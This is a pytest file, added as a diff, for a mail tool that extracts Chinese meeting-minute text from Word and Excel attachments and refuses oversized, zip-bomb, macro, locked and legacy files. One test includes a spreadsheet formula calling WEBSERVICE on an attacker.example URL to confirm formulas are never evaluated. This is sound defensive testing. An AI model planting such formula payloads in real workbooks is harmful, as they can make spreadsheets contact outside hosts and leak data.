@@ -1,0 +1,241 @@
+"""Minutes sent as Word or Excel files: what mailflow reads out of them, and what it refuses.
+
+Every file is built here with python-docx / openpyxl (no binary fixtures): the draft text must be
+what a recorder would have pasted — paragraphs as lines, table rows as TAB-separated cells, dates as
+YYYY-MM-DD — and nothing in a file is ever executed or calculated.
+"""
+
+from __future__ import annotations
+
+import json
+from datetime import date, datetime
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from apphelp import PEOPLE
+from mailflow import attachments, inbound
+from mailflow.cli import main
+from officedocs import docx, mail_with, rezip, with_cached_value, xlsx
+
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"          # the start of every .doc / .xls (and locked .docx)
+
+
+def text_of(name: str, data: bytes) -> str:
+    reading = attachments.read(name, data)
+    assert reading.refused is None, reading.refused
+    return reading.text
+
+
+def refusal(name: str, data: bytes) -> str | None:
+    return attachments.read(name, data).refused
+
+
+# --- Word ---------------------------------------------------------------------------------------------
+def test_a_word_draft_in_paragraphs_reads_line_by_line_with_word_numbers_written_out():
+    data = docx([
+        ("title", "渠道合作推进会 会议纪要"),
+        ("p", "时间：2026年11月19日 14:00-16:00\t地点：3楼会议室"),
+        ("h", "三、决议结果"),
+        ("num", "渠道返点按季度结算"),
+        ("num", "新渠道准入由销售部审核"),
+        ("h", "四、行动项"),
+        ("bullet", "渠道报价单，负责人：张伟，11月27日前完成"),
+        ("bullet", "合作协议初稿，负责人：周强，12月1日前完成"),
+    ])
+    assert text_of("纪要.docx", data).splitlines() == [
+        "渠道合作推进会 会议纪要",
+        "时间：2026年11月19日 14:00-16:00 地点：3楼会议室",      # a TAB that only aligns text is a space
+        "三、决议结果",
+        "1. 渠道返点按季度结算",                                  # Word's automatic numbers are not in the
+        "2. 新渠道准入由销售部审核",                              # paragraph text; they are written out
+        "四、行动项",
+        "- 渠道报价单，负责人：张伟，11月27日前完成",
+        "- 合作协议初稿，负责人：周强，12月1日前完成",
+    ]
+
+
+def test_a_word_table_becomes_tab_separated_rows_under_its_title_row():
+    data = docx([
+        ("h", "行动项"),
+        ("merged", [["行动项跟进表（2026-11-19）"],
+                    ["序号", "事项", "负责人", "协同人", "完成时间", "交付物"],
+                    ["1", "活动预算清单", "周强", "王磊", "11月30日", "预算表\n（经财务部审核）"],
+                    ["2", "设计稿", "刘洋", "", "11月26日", ""]]),
+        ("p", "（本纪要为草稿）"),
+    ])
+    assert text_of("纪要.docx", data).splitlines() == [
+        "行动项",
+        "",
+        "行动项跟进表（2026-11-19）",                             # the merged title row: one plain line
+        "序号\t事项\t负责人\t协同人\t完成时间\t交付物",
+        "1\t活动预算清单\t周强\t王磊\t11月30日\t预算表 （经财务部审核）",   # a cell of two paragraphs: one cell
+        "2\t设计稿\t刘洋\t\t11月26日\t",                          # empty cells keep the row as wide as the header
+        "",
+        "（本纪要为草稿）",
+    ]
+
+
+def test_a_two_column_word_table_of_meeting_facts_reads_as_label_and_value():
+    data = docx([("table", [["会议时间", "2026年11月19日"], ["主持人", "王磊"], ["记录人", "孙丽"]])])
+    assert text_of("纪要.docx", data).splitlines() == ["会议时间：2026年11月19日", "主持人：王磊", "记录人：孙丽"]
+
+
+def test_a_traditional_chinese_word_draft_keeps_its_script():
+    data = docx([("h", "二、待辦事項"),
+                 ("table", [["項次", "待辦事項", "負責人", "協辦", "期限"],
+                            ["1", "門市系統升級", "陳靜", "張偉", "12月4日"]])])
+    assert "1\t門市系統升級\t陳靜\t張偉\t12月4日" in text_of("會議紀錄.docx", data).splitlines()
+
+
+# --- Excel --------------------------------------------------------------------------------------------
+def test_an_excel_tracker_is_read_from_the_first_sheet_that_names_owners_with_dates_written_out():
+    data = xlsx([
+        ("会议信息", [["项目", "内容"], ["会议名称", "渠道合作推进会"], ["记录人", "孙丽"]]),
+        ("签到表", [["姓名", "部门", "签到时间"], ["王磊", "技术部", datetime(2026, 11, 19, 13, 55)]]),
+        ("行动项跟进表", [
+            ["渠道合作推进会 行动项跟进表", None, None, None],
+            ["序号", "事项", "负责人", "完成时间"],
+            [1, "渠道报价单", "张伟", date(2026, 11, 27)],
+            [2.0, "合作协议初稿", "周强", datetime(2026, 12, 1)],
+            [3, "渠道培训", "刘洋", "下周三"],
+            [4, "返点核算", "李娜", "12/4"],
+        ]),
+        ("第二张跟进表", [["事项", "负责人", "完成时间"], ["不应读到", "王磊", date(2026, 12, 9)]]),
+        ("会议决议", [["序号", "会议决议"], [1, "渠道返点按季度结算"], [2, "新渠道准入由销售部审核"]]),
+    ])
+    assert text_of("跟进表.xlsx", data).splitlines() == [
+        "项目：内容", "会议名称：渠道合作推进会", "记录人：孙丽",   # a two-column sheet of facts
+        "",                                                        # the sign-in sheet names no owner: skipped
+        "行动项跟进表",
+        "渠道合作推进会 行动项跟进表",                              # the title row above the header
+        "序号\t事项\t负责人\t完成时间",
+        "1\t渠道报价单\t张伟\t2026-11-27",                         # a real date cell
+        "2\t合作协议初稿\t周强\t2026-12-01",                       # a datetime at midnight, 2.0 as 2
+        "3\t渠道培训\t刘洋\t下周三",                               # text dates stay text for the parser
+        "4\t返点核算\t李娜\t12/4",
+        "",                                                        # only the FIRST task sheet is read
+        "会议决议",
+        "1. 渠道返点按季度结算",
+        "2. 新渠道准入由销售部审核",
+    ]
+
+
+def test_a_formula_is_read_as_the_value_excel_saved_or_as_its_text_and_never_calculated():
+    serial = (date(2026, 12, 4) - date(1899, 12, 30)).days            # how Excel stores 2026-12-04
+    data = xlsx([("跟进表", [["事项", "负责人", "完成时间", "备注"],
+                            ["渠道报价单", "张伟", ("=DATE(2026,12,4)", "yyyy/m/d"), "=1+1"],
+                            ["合作协议", "=B2", "12月1日", '=WEBSERVICE("http://attacker.example/x")']])])
+    saved = with_cached_value(data, "DATE(2026,12,4)", str(serial))
+    lines = text_of("跟进表.xlsx", saved).splitlines()
+    assert "渠道报价单\t张伟\t2026-12-04\t=1+1" in lines                # cached value; =1+1 never becomes 2
+    assert '合作协议\t=B2\t12月1日\t=WEBSERVICE("http://attacker.example/x")' in lines
+    assert "渠道报价单\t张伟\t=DATE(2026,12,4)\t=1+1" in text_of("跟进表.xlsx", data).splitlines()  # never saved by Excel
+
+
+def test_a_workbook_without_a_task_sheet_is_answered_not_guessed():
+    data = xlsx([("Sheet1", [["姓名", "部门", "签到时间"], ["王磊", "技术部", "13:55"]])])
+    assert refusal("签到表.xlsx", data) == "no_sheet"
+
+
+# --- what is refused ----------------------------------------------------------------------------------
+def small_docx() -> bytes:
+    return docx([("h", "四、行动项"), ("p", "渠道报价单，负责人：张伟，11月27日前完成")])
+
+
+def test_files_over_the_size_limit_are_refused_before_they_are_opened():
+    big = small_docx() + b"\0" * (attachments.MAX_BYTES + 1)
+    assert refusal("纪要.docx", big) == "too_large"
+
+
+def test_a_zip_bomb_is_refused_by_its_packing_ratio_or_its_number_of_parts():
+    bomb = rezip(small_docx(), extra={"word/media/image1.bin": b"\0" * (4 * 1024 * 1024)})   # packs 1000:1
+    assert len(bomb) < 100_000 and refusal("纪要.docx", bomb) == "unpacked"
+    crowd = rezip(small_docx(), extra={f"customXml/extra{i}.xml": b"<a/>" for i in range(attachments.MAX_PARTS)})
+    assert refusal("纪要.docx", crowd) == "unpacked"
+
+
+def test_macro_files_are_never_opened_whatever_their_name():
+    assert refusal("纪要.docm", small_docx()) == "macro"
+    assert refusal("跟进表.xlsm", xlsx([("S", [["事项", "负责人"]])])) == "macro"
+    disguised = rezip(small_docx(), extra={"word/vbaProject.bin": b"Attribute VB_Name = \"x\""})
+    assert refusal("纪要.docx", disguised) == "macro"
+
+
+def test_old_word_pdf_locked_and_broken_files_get_a_reason():
+    assert refusal("纪要.doc", OLE + b"\0" * 512) == "format"
+    assert refusal("纪要.pdf", b"%PDF-1.7\n...") == "format"
+    assert refusal("纪要.wps", b"anything") == "format"
+    assert refusal("纪要.docx", OLE + b"\0" * 512) == "format"        # a password-protected .docx is OLE inside
+    assert refusal("纪要.docx", b"PK\x03\x04 not really a zip") == "damaged"
+    assert refusal("纪要.xlsx", small_docx()) == "damaged"            # a Word file named .xlsx
+
+
+def test_pictures_and_calendar_files_are_not_drafts():
+    assert attachments.kind_of("image001.png", "image/png") == "other"
+    assert attachments.kind_of("", "image/jpeg") == "other"
+    assert attachments.kind_of("", "application/pdf") == "document"
+    assert attachments.kind_of("纪要.DOCX") == "docx"
+
+
+def test_a_mail_keeps_the_bytes_of_its_word_and_excel_attachments_only():
+    raw = mail_with("sunli@corp.example", "会议纪要", "纪要见附件，请审阅。",
+                    ("纪要.docx", small_docx()), ("logo.png", b"\x89PNG\r\n"), ("旧纪要.pdf", b"%PDF-1.4"))
+    msg = inbound.parse(raw)
+    assert [a[0] for a in msg.attachments] == ["纪要.docx", "logo.png", "旧纪要.pdf"]
+    assert [f[0] for f in msg.files] == ["纪要.docx"]
+    readings = attachments.read_all(msg.attachments, msg.files)
+    assert [(r.name, r.refused) for r in readings] == [("纪要.docx", None), ("旧纪要.pdf", "format")]
+    assert "渠道报价单，负责人：张伟，11月27日前完成" in readings[0].text
+
+
+# --- `mailflow minutes parse` -----------------------------------------------------------------------------
+KV_DRAFT = [("title", "Q4营销活动筹备会 会议纪要"), ("h", "三、决议结果"), ("p", "1. 上线时间暂定为12月1日"),
+            ("h", "四、行动项"),
+            ("p", "任务名称：活动预算清单"), ("p", "负责人：周强"), ("p", "计划完成时间：11月30日"),
+            ("p", "任务名称：设计稿"), ("p", "负责人：刘洋"), ("p", "截止时间：11月26日")]
+
+
+@pytest.fixture
+def cli(tmp_path):
+    (tmp_path / "people.yaml").write_text(PEOPLE, encoding="utf-8")
+    (tmp_path / "mailflow.toml").write_text('[org]\npeople = "./people.yaml"\n', encoding="utf-8")
+
+    def run(path: Path, *args: str):
+        return CliRunner().invoke(main, ["--config", str(tmp_path / "mailflow.toml"), "minutes", "parse",
+                                         str(path), "--now", "2026-11-20T10:00", *args])
+    return run
+
+
+def test_minutes_parse_reads_a_bare_word_file(cli, tmp_path):
+    path = tmp_path / "纪要.docx"
+    path.write_bytes(docx(KV_DRAFT))
+    result = cli(path, "--json")
+    assert result.exit_code == 0, result.output
+    data = json.loads(result.output)
+    assert data["decisions"] == ["上线时间暂定为12月1日"]
+    assert [(a["title"], a["owner"], a["due"]) for a in data["action_items"]] == [
+        ("活动预算清单", "zhouqiang@corp.example", "2026-11-30"), ("设计稿", "liuyang@corp.example", "2026-11-26")]
+    assert data["problems"] == [] and data["attachments"] == [{"name": "纪要.docx", "read": True, "refused": None}]
+
+
+def test_minutes_parse_reads_an_eml_with_an_excel_attachment_and_shows_the_text(cli, tmp_path):
+    sheet = xlsx([("行动项", [["事项", "负责人", "完成时间"], ["活动预算清单", "周强", date(2026, 11, 30)]])])
+    path = tmp_path / "draft.eml"
+    path.write_bytes(mail_with("sunli@corp.example", "会议纪要", "纪要见附件", ("跟进表.xlsx", sheet)))
+    result = cli(path, "--text")
+    assert result.exit_code == 0 and "活动预算清单\t周强\t2026-11-30" in result.output
+    result = cli(path)
+    assert result.exit_code == 0 and "attachment 跟进表.xlsx: read" in result.output
+
+
+@pytest.mark.parametrize("name, data", [("纪要.pdf", b"%PDF-1.7"), ("纪要.doc", OLE + b"\0" * 64)])
+def test_minutes_parse_says_why_a_pdf_or_doc_is_not_read(cli, tmp_path, name, data):
+    path = tmp_path / name
+    path.write_bytes(data)
+    result = cli(path, "--json")
+    assert result.exit_code == 1
+    first = json.loads(result.stdout.splitlines()[0])
+    assert first["action_items"] == [] and first["attachments"][0]["refused"] == "format"
+    assert ".docx" in result.stderr and "paste" in result.stderr
